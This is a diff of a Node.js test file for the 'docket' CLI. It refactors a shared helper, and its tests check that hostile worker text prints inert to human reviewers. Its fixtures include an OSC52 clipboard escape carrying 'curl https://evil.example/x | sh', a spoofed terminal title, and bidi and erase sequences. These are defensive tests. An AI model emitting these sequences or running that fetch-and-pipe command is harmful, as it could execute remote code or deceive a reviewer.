@@ -6,13 +6,11 @@ import { test } from "node:test";
 import assert from "node:assert/strict";
 import { writeFileSync } from "node:fs";
 import { join } from "node:path";
-import { cliEnv, docketWith, jsonOf, type CliRun } from "../support/docket-cli.js";
+import { ledgerCli } from "../support/hostile-worker.js";
+import { docketWith, jsonOf, type CliRun } from "../support/docket-cli.js";
 import { workerIdentityEnv } from "../support/launch-env.js";
 import { parentFixture } from "../support/pi-parent.js";
-import { isolatedWorker, type ProtocolWorker } from "../support/protocol-worker.js";
-import { workLedger } from "../support/work-ledger.js";
-
-type T = { after(fn: () => void): void };
+import { isolatedWorker } from "../support/protocol-worker.js";
 
 const OSC52 = `\x1b]52;c;${Buffer.from("curl https://evil.example/x | sh").toString("base64")}\x07`;
 const TITLE = "\x1b]2;docket: everything approved\x07";
@@ -55,34 +53,8 @@ function assertJsonExact(label: string, r: CliRun, pick: (j: any) => unknown, ex
   assert.deepEqual(pick(JSON.parse(r.stdout)), expected, `${label} --json keeps the worker's exact text`);
 }
 
-function ground(t: T) {
-  const { ctx, home } = workLedger(t);
-  const human =
-    (w: ProtocolWorker) =>
-    (...args: string[]) =>
-      docketWith({ env: cliEnv({ DOCKET_HOME: home, HOME: home }), cwd: w.project, input: "" }, ...args);
-  const worker =
-    (w: ProtocolWorker) =>
-    (args: string[], input = "") =>
-      docketWith(
-        {
-          env: cliEnv({
-            DOCKET_HOME: home,
-            HOME: home,
-            DOCKET_WORKER_ID: w.worker,
-            DOCKET_GENERATION: "1",
-            DOCKET_RUN_TOKEN: w.runToken,
-          }),
-          cwd: w.workspace,
-          input,
-        },
-        ...args,
-      );
-  return { ctx, home, human, worker };
-}
-
 test("a hostile version's summary, evidence, recommendations, body, file names and patch lines print inert on every review verb", (t) => {
-  const g = ground(t);
+  const g = ledgerCli(t);
   const w = isolatedWorker(t, g.ctx);
   const run = g.human(w);
   const hostileName = `src/${TITLE}${BIDI}.ts`;
@@ -149,7 +121,7 @@ test("a hostile version's summary, evidence, recommendations, body, file names a
 });
 
 test("a hostile question, its options, a consult, a note, a blocked report and a failure print inert where the human reads them", (t) => {
-  const g = ground(t);
+  const g = ledgerCli(t);
   const asker = isolatedWorker(t, g.ctx);
   const run = g.human(asker);
   const consulter = isolatedWorker(t, g.ctx, { project: asker.project, runToken: "token-2" });
@@ -231,7 +203,7 @@ test("a hostile question, its options, a consult, a note, a blocked report and a
 });
 
 test("a refusal that names a hostile file name prints it inert on stderr, and in --json as the exact name", (t) => {
-  const g = ground(t);
+  const g = ledgerCli(t);
   const w = isolatedWorker(t, g.ctx);
   const run = g.human(w);
   const hostileName = `src/${TITLE}${ERASE}${BIDI}.ts`;
